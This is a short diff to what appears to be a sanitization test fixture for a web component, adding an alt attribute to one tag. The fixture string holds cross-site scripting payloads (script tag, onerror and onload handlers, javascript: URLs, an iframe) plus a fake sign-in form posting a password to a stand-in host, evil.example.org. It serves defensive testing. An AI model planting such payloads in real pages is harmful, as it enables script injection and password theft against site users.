@@ -19,7 +19,7 @@ export default {
       component: "xak-flow-shell",
       body: page(
         "<b>Ada</b> &amp; the Engine",
-        `<p>Still here.</p><script>document.title = "ran"</script><img src="x" onerror="document.title='ran'">` +
+        `<p>Still here.</p><script>document.title = "ran"</script><img src="x" alt="" onerror="document.title='ran'">` +
           `<svg onload="document.title='ran'"></svg><a href="javascript:document.title='ran'">link</a>` +
           `<form action="https://evil.example.org/"><input name="password"><button>Sign in</button></form>` +
           `<iframe src="javascript:parent.document.title='ran'"></iframe><p style="position:fixed;inset:0">Over.</p>`,
